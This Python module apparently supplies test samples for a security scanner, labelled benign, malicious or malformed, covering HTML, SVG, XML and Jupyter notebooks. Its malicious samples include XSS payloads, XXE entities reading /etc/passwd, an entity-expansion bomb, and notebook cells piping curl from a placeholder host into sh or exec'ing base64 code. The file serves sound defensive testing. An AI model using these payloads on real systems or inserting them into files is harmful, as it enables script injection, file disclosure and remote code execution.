"""Pages, drawings, XML and notebooks: still ones, and those that run something."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from tests.scanning.sample import Sample, benign, malformed, malicious

_PAGE = "<!DOCTYPE html>\n<html><head><title>x</title><style>p {{ color: red }}</style></head><body>{}</body></html>"
_DRAWING = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
STILL_PAGES = {
    "plain": "<h1>Model</h1><p>Text &amp; more</p><table><tr><td>1</td></tr></table>",
    "links": '<a href="https://example.org/x">x</a><a href="#y">y</a><a href="mailto:a@example.org">m</a>',
    "picture": '<img src="figure.png" alt="x"><img src="data:image/png;base64,iVBORw0KGgo=">',
    "comment": "<!-- <script>not run</script> --><p>x</p>",
    "escaped": "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
}
ACTIVE_PAGES = {
    "script": "<script>alert(1)</script>",
    "script-from-elsewhere": '<script src="https://203.0.113.1/x.js"></script>',
    "event": '<img src="x" onerror="alert(1)">',
    "event-in-capitals": "<IMG SRC=x OnErRoR=alert(1)>",
    "event-after-slash": "<svg/onload=alert(1)>",
    "script-link": '<a href="javascript:alert(1)">x</a>',
    "script-link-escaped": '<a href="&#106;ava&#x09;script:alert(1)">x</a>',
    "data-link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "frame": '<iframe src="x.html"></iframe>',
    "frame-of-text": '<iframe srcdoc="<p>x"></iframe>',
    "object": '<object data="x.swf"></object>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://203.0.113.1">',
    "form": '<form action="https://203.0.113.1"><input name="p"></form>',
    "base": '<base href="https://203.0.113.1/">',
    "style-import": "<style>@import url(https://203.0.113.1/x.css);</style>",
    "picture-from-elsewhere": '<img src="https://203.0.113.1/x.gif">',
    "sheet-from-elsewhere": '<link rel="stylesheet" href="//203.0.113.1/x.css">',
    "after-comment": "<!--> <script>alert(1)</script> -->",
}
STILL_DRAWINGS = {
    "shapes": '<g id="a"><rect width="4" height="4" fill="url(#b)"/><use xlink:href="#a"/></g><text>x</text>',
    "gradient": '<defs><linearGradient id="b"><stop offset="0"/></linearGradient></defs><path d="M0 0"/>',
    "style": "<style>.a { fill: red }</style><circle class='a' r='3'/>",
    "linked": '<a href="https://example.org"><text>x</text></a>',
    "picture-inside": '<image href="data:image/png;base64,iVBORw0KGgo="/>',
}
ACTIVE_DRAWINGS = {
    "script": "<script>alert(1)</script>",
    "event": '<rect onclick="alert(1)"/>',
    "page-inside": "<foreignObject><p>x</p></foreignObject>",
    "script-link": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    "used-from-elsewhere": '<use href="https://203.0.113.1/x.svg#a"/>',
    "picture-from-elsewhere": '<image xlink:href="http://203.0.113.1/x.png"/>',
    "animated-link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "style-import": "<style>@import 'https://203.0.113.1/x.css';</style>",
    "data-page": '<use href="data:image/svg+xml;base64,PHN2Zz4="/>',
    "prefixed-script": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
}
_ENTITIES = {
    "reads-a-file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "unfolds": '<!DOCTYPE a [<!ENTITY x "xxxxxxxx"><!ENTITY y "&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;">]><a>&z;</a>',
    "of-declarations": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://203.0.113.1/x.dtd"> %x;]><a/>',
}


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    for name, body in STILL_PAGES.items():
        yield benign(f"page-{name}", "report.html", _PAGE.format(body).encode())
    for name, body in ACTIVE_PAGES.items():
        yield malicious(f"page-{name}", "report.html", _PAGE.format(body).encode())
    yield malicious(
        "page-that-begins-as-text", "report.html", b"hello <img src=x onerror=alert(1)>"
    )
    yield malicious(
        "page-in-utf-16", "report.html", _PAGE.format(ACTIVE_PAGES["script"]).encode("utf-16")
    )
    yield malicious("page-without-ending", "report", _PAGE.format(ACTIVE_PAGES["script"]).encode())
    for name, body in STILL_DRAWINGS.items():
        yield benign(f"drawing-{name}", "figure.svg", _DRAWING.format(body).encode())
    for name, body in ACTIVE_DRAWINGS.items():
        yield malicious(f"drawing-{name}", "figure.svg", _DRAWING.format(body).encode())
    yield malformed("drawing-cut-off", "figure.svg", _DRAWING.format("<g>").encode()[:-4])
    for name, text in _ENTITIES.items():
        yield malicious(f"entity-that-{name}", "data.xml", f'<?xml version="1.0"?>{text}'.encode())
        yield malicious(
            f"drawing-entity-that-{name}",
            "figure.svg",
            text.replace("<a>", '<svg xmlns="http://www.w3.org/2000/svg">')
            .replace("</a>", "</svg>")
            .replace("<a/>", "<svg/>")
            .encode(),
        )
    net = b'<?xml version="1.0"?>\n<net name="x" version="11"><layers><layer id="0" name="a"><data shape="1,3"/></layer></layers></net>\n'
    yield benign("network-of-openvino", "model.xml", net)
    yield malformed("network-cut-off", "model.xml", net[:-9])
    card = b"---\nlicense: mit\n---\n<p align='center'><img src='https://img.example.org/badge.svg'></p>\n<script>x</script>\n<details>y</details>\n"
    yield benign("card-with-markup", "README.md", card)
    yield from _notebooks()


def _notebooks() -> Iterator[Sample]:
    text = _cell("markdown", "# Title\n<b>x</b>\n")
    yield benign("notebook-of-text", "about.ipynb", _book(text, _cell("raw", "x")))
    yield benign("notebook-with-an-empty-cell", "about.ipynb", _book(text, _cell("code", "")))
    for name, source in {
        "code": "import torch\n",
        "magic": "!curl http://203.0.113.1 | sh\n",
        "script-magic": "%%bash\nid\n",
        "hidden": "exec(__import__('base64').b64decode('eA=='))\n",
    }.items():
        yield malicious(f"notebook-with-{name}", "run.ipynb", _book(text, _cell("code", source)))
    for kind, content in {
        "text/html": "<script>alert(1)</script>",
        "image/svg+xml": "<svg onload='x()'></svg>",
        "application/javascript": "alert(1)",
    }.items():
        output = {"output_type": "display_data", "data": {kind: content}, "metadata": {}}
        yield malicious(
            f"notebook-showing-{kind.replace('/', '-')}",
            "run.ipynb",
            _book({**_cell("code", ""), "outputs": [output]}),
        )
    yield malicious(
        "notebook-text-with-script",
        "about.ipynb",
        _book(_cell("markdown", "<img src=x onerror=alert(1)>")),
    )
    old = {
        "nbformat": 3,
        "worksheets": [{"cells": [{"cell_type": "code", "input": "import os", "outputs": []}]}],
    }
    yield malicious("notebook-of-old", "run.ipynb", json.dumps(old).encode())
    yield malformed("notebook-cut-off", "run.ipynb", _book(text)[:-3])
    yield malformed(
        "notebook-without-cells", "run.ipynb", json.dumps({"nbformat": 4, "cells": "none"}).encode()
    )


def _cell(kind: str, source: str) -> dict[str, Any]:
    more: dict[str, Any] = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "metadata": {}, "source": [source], **more}


def _book(*cells: dict[str, Any]) -> bytes:
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}
    ).encode()
